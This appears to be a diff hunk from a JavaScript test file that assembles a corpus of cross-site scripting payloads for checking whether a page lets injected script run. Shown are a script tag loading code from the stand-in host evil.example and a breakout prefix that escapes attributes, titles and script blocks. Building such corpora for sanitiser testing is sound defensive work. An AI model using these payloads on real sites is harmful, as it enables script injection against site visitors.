@@ -1,6 +1,10 @@
-// Which texts have run as code in other people's pages? Two hundred of them, from every way a page can be made to run one.
+// Which texts have run as code in other people's pages? Two hundred of them, from every way a page
+// can be made to run one.
 
-/** Every payload calls `ran()` or loads from evil.example, so that a page can tell whether one got through. */
+/**
+ * Every payload calls `ran()` or loads from evil.example, so that a page can tell whether one got
+ * through.
+ */
 const scripts = [
   "<script>ran()</script>",
   "<script src=//evil.example/x.js></script>",
@@ -132,7 +136,9 @@ const breakers = [
 
 const plain = [...scripts, ...handlers, ...frames, ...links, ...styles, ...breakers];
 /** The same, out of places where a careless template would have put the text. */
-const inside = [...scripts, ...handlers, ...frames, ...links].map((payload) => `"'></title></script>${payload}`);
+const inside = [...scripts, ...handlers, ...frames, ...links].map(
+  (payload) => `"'></title></script>${payload}`,
+);
 const dressed = plain.filter((payload) => payload.startsWith("<img") || payload.startsWith("<svg"));
 const nested = dressed.map((payload) => `<b>bold ${payload}</b><!-- ${payload} -->`);
 
